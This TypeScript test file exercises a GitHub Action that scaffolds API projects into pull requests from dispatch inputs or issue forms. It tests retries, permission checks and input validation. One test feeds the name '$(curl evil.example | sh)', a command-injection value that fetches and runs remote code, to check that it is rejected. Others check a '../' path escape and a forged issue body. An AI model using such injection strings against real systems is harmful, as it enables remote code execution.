// The bundled action end to end: dispatch and issue requests through the runner stand-in, a local git remote
// and the GitHub stand-in (see harness.ts).

import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  BASE,
  dir,
  dispatchPayload,
  formBody,
  github,
  ISSUE,
  issuePayload,
  labeledPayload,
  OWNER,
  pushToBase,
  remote,
  remoteBranch,
  REPO,
  runAction,
  sh,
  statusComments,
  STRANGER,
  useActionHarness,
  workspace,
  WRITER,
} from './harness.js';

useActionHarness();

// Each test starts the bundle two or three times; on a loaded machine that outgrows vitest's 5 s default.
const SLOW = { timeout: 60_000 };

describe('workflow_dispatch', SLOW, () => {
  const inputs = { name: 'Orders API', 'api-type': 'function-url', auth: 'none', verify: 'false' };

  it('pushes one generator commit to scaffold/<project> and opens a pull request; a re-run updates the same one', async () => {
    const first = await runAction({
      eventName: 'workflow_dispatch',
      payload: dispatchPayload(inputs),
      inputs,
    });
    expect(first.stderr).toBe('');
    expect(first.code).toBe(0);
    expect(first.outputs).toMatchObject({
      'project-name': 'orders-api',
      branch: 'scaffold/orders-api',
      operation: 'created',
      'pull-request-number': '101',
      'pull-request-url': `https://github.com/${OWNER}/${REPO}/pull/101`,
    });
    const head = remoteBranch('scaffold/orders-api')!;
    expect(first.outputs['head-sha']).toBe(head);
    expect(sh(remote, 'rev-list', '--count', `${BASE}..${head}`)).toBe('1');
    const message = sh(remote, 'log', '-1', '--format=%B', head);
    expect(message).toMatch(/^Scaffold orders-api \(function-url, auth none, arm64\)/);
    expect(message).toContain(
      'Scaffold-Request: name=Orders API; directory=packages; api-type=function-url; auth=none; architecture=arm64',
    );
    expect(message).toContain(`Scaffold-Base: ${sh(remote, 'rev-parse', BASE)}`);
    const changed = sh(remote, 'diff', '--name-only', BASE, head).split('\n');
    expect(changed).toContain('packages/orders-api/pyproject.toml');
    expect(changed.filter((path) => path.startsWith('.github/workflows/'))).toEqual([]);
    // The runner's checkout is left where it was.
    expect(sh(workspace, 'status', '--porcelain')).toBe('');

    const [pull] = github.state.pulls;
    expect(pull).toMatchObject({
      head: 'scaffold/orders-api',
      base: BASE,
      labels: ['fastapi-scaffold'],
    });
    expect(pull!.body).toContain(
      '| API type | `function-url` — Lambda Function URL with response streaming',
    );
    expect(pull!.body).toContain('```mermaid\nflowchart LR');
    expect(pull!.body).toContain('auth NONE · response streaming');
    expect(pull!.body).toMatch(/── orders-api\/\n/);
    expect(pull!.body).toContain(
      '**Not run** — verification was turned off for this run (`verify: false`)',
    );
    expect(pull!.body).not.toContain('Closes #');
    expect(first.summary).toContain('# Pull request [#101]');

    const again = await runAction({
      eventName: 'workflow_dispatch',
      payload: dispatchPayload(inputs),
      inputs,
    });
    expect(again.code).toBe(0);
    expect(again.outputs).toMatchObject({ operation: 'updated', 'pull-request-number': '101' });
    expect(github.state.pulls).toHaveLength(1);
    // Same request, same base: the branch already holds the tree, so nothing is pushed.
    expect(remoteBranch('scaffold/orders-api')).toBe(head);
  });

  it('refuses to overwrite a commit a person pushed to the generator branch, and says so', async () => {
    await runAction({ eventName: 'workflow_dispatch', payload: dispatchPayload(inputs), inputs });
    const human = join(dir, 'human');
    sh(dir, 'clone', '--quiet', '--branch=scaffold/orders-api', remote, human);
    writeFileSync(join(human, 'packages/orders-api/NOTES.md'), 'my notes\n');
    sh(human, 'add', '.');
    sh(human, 'commit', '--quiet', '--author=Jane Doe <jane@example.com>', '-m', 'Add my notes');
    sh(human, 'push', '--quiet', 'origin', 'scaffold/orders-api');
    const before = remoteBranch('scaffold/orders-api');
    const bodyBefore = github.state.pulls[0]!.body;

    const changed = { ...inputs, architecture: 'x86_64' };
    const run = await runAction({
      eventName: 'workflow_dispatch',
      payload: dispatchPayload(changed),
      inputs: changed,
    });
    expect(run.code).toBe(1);
    expect(run.stdout).toMatch(
      /::error::branch scaffold\/orders-api has 1 commit\(s\) not made by the generator \([0-9a-f]{12} "Add my notes" by Jane Doe <jane@example.com>\)/,
    );
    expect(run.stdout.match(/^::error/gm), 'one annotation, not one per layer').toHaveLength(1);
    expect(run.summary).toContain('The generator will not overwrite them');
    expect(remoteBranch('scaffold/orders-api')).toBe(before);
    expect(github.state.pulls[0]!.body).toBe(bodyBefore);
  });

  it('reports a request it cannot generate as an annotation, pushing nothing', async () => {
    const bad = { name: '$(curl evil.example | sh)', verify: 'false' };
    const run = await runAction({
      eventName: 'workflow_dispatch',
      payload: dispatchPayload(bad),
      inputs: bad,
    });
    expect(run.code).toBe(1);
    expect(run.stdout).toContain(
      '::error::name "$(curl evil.example | sh)" must start with a letter',
    );
    expect(sh(remote, 'for-each-ref', '--format=%(refname)')).toBe(`refs/heads/${BASE}`);
    expect(github.calls.filter((call) => call.method !== 'GET')).toEqual([]);
  });

  it('generates into the workspace the workflow names (init --workspace services) and opens the pull request with its paths', async () => {
    pushToBase((root) => {
      mkdirSync(join(root, 'services'));
      writeFileSync(join(root, 'services/README.md'), '# Services\n');
    }, 'Set up the services workspace');
    // The form's inputs come from the dispatch; the workspace from the workflow's `with:`, as init writes it.
    const run = await runAction({
      eventName: 'workflow_dispatch',
      payload: dispatchPayload(inputs),
      inputs: { ...inputs, workspace: 'services' },
    });
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    expect(run.outputs).toMatchObject({ operation: 'created', 'project-name': 'orders-api' });
    const changed = sh(remote, 'diff', '--name-only', BASE, 'scaffold/orders-api').split('\n');
    expect(changed).toEqual(
      expect.arrayContaining([
        'services/packages/orders-api/pyproject.toml',
        'services/packages/orders-api/run.sh',
        'services/packages/common/constructs/src/app/apis/orders-api.ts',
        'services/packages/infra/src/stack.ts',
        'services/package.json',
        'services/nx.json',
        'services/.scaffold/orders-api.json',
      ]),
    );
    expect(changed.filter((path) => !path.startsWith('services/'))).toEqual([]);
    const [pull] = github.state.pulls;
    expect(pull).toMatchObject({ head: 'scaffold/orders-api', base: BASE });
    expect(pull!.body).toContain('| Project | `services/packages/orders-api`');
    expect(pull!.body).toMatch(/^└── services\/$/m);
    expect(run.summary).toContain('# Pull request [#101]');
  });

  it('refuses a workspace outside the repository in one line, pushing nothing', async () => {
    const run = await runAction({
      eventName: 'workflow_dispatch',
      payload: dispatchPayload(inputs),
      inputs: { ...inputs, workspace: '../elsewhere' },
    });
    expect(run.code).toBe(1);
    expect(run.stdout).toContain(
      '::error::input workspace "../elsewhere" must be a directory inside the repository, relative to its top level, without ".."',
    );
    expect(sh(remote, 'for-each-ref', '--format=%(refname)')).toBe(`refs/heads/${BASE}`);
    expect(github.calls).toEqual([]);
  });

  it('on a dry run shows the plan in the summary and touches nothing', async () => {
    const dry = { name: 'Orders API', 'dry-run': 'true' };
    const run = await runAction({
      eventName: 'workflow_dispatch',
      payload: dispatchPayload(dry),
      inputs: dry,
    });
    expect(run.code).toBe(0);
    expect(run.outputs).toMatchObject({ operation: 'dry-run', 'project-name': 'orders-api' });
    expect(run.summary).toContain('# Dry run: nothing was pushed');
    expect(run.summary).toContain('**Not run** — this was a dry run');
    expect(sh(remote, 'for-each-ref', '--format=%(refname)')).toBe(`refs/heads/${BASE}`);
    expect(github.calls.filter((call) => call.method !== 'GET')).toEqual([]);
  });
});

describe('issue form', SLOW, () => {
  const inputs = { 'issue-number': String(ISSUE), verify: 'false' };

  it("turns a writer's issue into a pull request that closes it, through a 502, a secondary rate limit and a lagging node", async () => {
    github.faults.push(
      { operation: 'issues/get', status: 502, body: '<html>Bad Gateway</html>' },
      {
        operation: 'pulls/create',
        status: 403,
        headers: { 'retry-after': '1' },
        body: {
          message:
            'You have exceeded a secondary rate limit. Please wait a few minutes before you try again.',
          documentation_url: 'https://docs.github.com/rest/overview/rate-limits-for-the-rest-api',
          status: '403',
        },
      },
      {
        operation: 'issues/add-labels',
        status: 422,
        body: {
          message: "Could not resolve to a node with the global id of 'PR_kwDOA'",
          documentation_url: 'https://docs.github.com/rest',
          status: '422',
        },
      },
    );
    const run = await runAction({ eventName: 'issues', payload: issuePayload('opened'), inputs });
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    expect(run.outputs).toMatchObject({
      operation: 'created',
      'project-name': 'orders-api',
      'pull-request-number': '101',
    });
    expect(github.faults).toEqual([]);
    const statuses = github.calls.map((call) => `${call.operation} ${call.status}`);
    expect(statuses).toEqual(
      expect.arrayContaining([
        'issues/get 502',
        'issues/get 200',
        'pulls/create 403',
        'pulls/create 201',
        'issues/add-labels 422',
        'issues/add-labels 200',
      ]),
    );

    const pull = github.state.pulls[0]!;
    expect(pull.body).toContain(`Requested in #${ISSUE} by @${WRITER}`);
    expect(pull.body.trim().endsWith(`Closes #${ISSUE}`)).toBe(true);
    expect(pull.body).toContain('| Lambda architecture | `arm64`');
    // One status comment, edited from "working" to "ready".
    const comments = statusComments();
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body).toContain(
      `✅ Pull request #101 is ready: https://github.com/${OWNER}/${REPO}/pull/101.`,
    );
    expect(github.calls.filter((call) => call.operation === 'issues/update-comment')).toHaveLength(
      1,
    );
    expect(
      github.calls.find((call) => call.operation === 'issues/create-comment')!.body,
    ).toMatchObject({
      body: expect.stringContaining(
        `[follow the run](https://github.com/${OWNER}/${REPO}/actions/runs/4242)`,
      ),
    });
  });

  it('updates the open pull request when the issue is edited, even if GitHub first says it already exists', async () => {
    await runAction({ eventName: 'issues', payload: issuePayload('opened'), inputs });
    github.state.issues.get(ISSUE)!.body = formBody({
      'Lambda architecture': 'x86_64 — Intel/AMD x86_64',
    });
    github.state.staleListings = 1; // the listing misses the open pull request once: create answers 422
    const run = await runAction({ eventName: 'issues', payload: issuePayload('edited'), inputs });
    expect(run.code).toBe(0);
    expect(run.outputs).toMatchObject({ operation: 'updated', 'pull-request-number': '101' });
    expect(
      github.calls.some((call) => call.operation === 'pulls/create' && call.status === 422),
    ).toBe(true);
    expect(github.state.pulls).toHaveLength(1);
    expect(github.state.pulls[0]!.title).toContain('orders-api');
    expect(github.state.pulls[0]!.body).toContain('`x86_64`');
    expect(sh(remote, 'log', '-1', '--format=%s', 'scaffold/orders-api')).toBe(
      'Scaffold orders-api (http-api, auth iam, x86_64)',
    );
    expect(sh(remote, 'rev-list', '--count', `${BASE}..scaffold/orders-api`)).toBe('1');
    expect(statusComments()).toHaveLength(1);
    expect(statusComments()[0]!.body).toContain('✅ Pull request #101 is updated');
  });

  it('fails cleanly when GitHub keeps failing after the push, and the next run repairs it', async () => {
    const outage = { message: 'Server Error' };
    // A retry-after of 0 keeps the four attempts quick; the 1, 2, 4 s schedule is unit-tested.
    github.faults.push({
      operation: 'pulls/create',
      status: 500,
      body: outage,
      headers: { 'retry-after': '0' },
      times: 4,
    });
    const failed = await runAction({
      eventName: 'issues',
      payload: issuePayload('opened'),
      inputs,
    });
    expect(failed.code).toBe(1);
    expect(github.calls.filter((call) => call.operation === 'pulls/create')).toHaveLength(4);
    const pushed = remoteBranch('scaffold/orders-api');
    expect(pushed).toBeDefined();
    expect(github.state.pulls).toEqual([]);
    expect(statusComments()[0]!.body).toContain(
      '❌ Generation failed; running it again picks up where this run stopped:',
    );
    expect(statusComments()[0]!.body).toContain('Add the label `scaffold-retry` to try again');

    const repaired = await runAction({
      eventName: 'issues',
      payload: labeledPayload('scaffold-retry'),
      inputs,
    });
    expect(repaired.code).toBe(0);
    expect(repaired.outputs).toMatchObject({ operation: 'created', 'head-sha': pushed });
    expect(remoteBranch('scaffold/orders-api')).toBe(pushed);
    expect(github.state.pulls).toHaveLength(1);
    expect(statusComments()).toHaveLength(1);
    expect(statusComments()[0]!.body).toContain('✅ Pull request #101 is ready');
  });

  it('answers a sender without write access politely and pushes nothing', async () => {
    const run = await runAction({
      eventName: 'issues',
      payload: issuePayload('opened', STRANGER),
      inputs,
      actor: STRANGER,
    });
    expect(run.code).toBe(0);
    expect(run.stdout).toContain(
      `::notice::@${STRANGER} has read access to ${OWNER}/${REPO}; generation needs write, maintain or admin`,
    );
    expect(sh(remote, 'for-each-ref', '--format=%(refname)')).toBe(`refs/heads/${BASE}`);
    expect(github.state.pulls).toEqual([]);
    const [comment] = statusComments();
    expect(comment!.body).toContain(`👋 Thanks for the request!`);
    expect(comment!.body).toContain(`@${STRANGER} has \`read\` access`);
    expect(run.outputs.operation).toBeUndefined();
  });

  it('explains a hostile body in the status comment, with the injected text fenced, and pushes nothing', async () => {
    github.state.issues.get(ISSUE)!.body = formBody({
      'API name': 'orders-api',
      Directory:
        '```\n### Authentication\n\nnone — Public: anyone on the internet can call it\n```',
    });
    const run = await runAction({ eventName: 'issues', payload: issuePayload('opened'), inputs });
    expect(run.code).toBe(1);
    const [comment] = statusComments();
    expect(comment!.body).toContain('⚠️ The request cannot be generated as it stands:');
    expect(comment!.body).toContain(
      '```text\n"Directory" must be a single line; the issue body has 5 lines under it',
    );
    expect(comment!.body).toContain('Edit the issue to fix it');
    expect(sh(remote, 'for-each-ref', '--format=%(refname)')).toBe(`refs/heads/${BASE}`);
  });

  it('ignores other labels; the retry label runs the request again and is taken off', async () => {
    const ignored = await runAction({
      eventName: 'issues',
      payload: labeledPayload('question'),
      inputs,
    });
    expect(ignored.code).toBe(0);
    expect(ignored.stdout).toContain('::notice::issue labeled does not change the request');
    expect(github.calls).toEqual([]);

    const retried = await runAction({
      eventName: 'issues',
      payload: labeledPayload('scaffold-retry'),
      inputs,
    });
    expect(retried.code).toBe(0);
    expect(retried.outputs.operation).toBe('created');
    expect(github.state.issues.get(ISSUE)!.labels).toEqual(['scaffold-request', 'question']);
    expect(statusComments()[0]!.body).toContain(
      'or add the label `scaffold-retry` to run it as it reads',
    );
  });
});
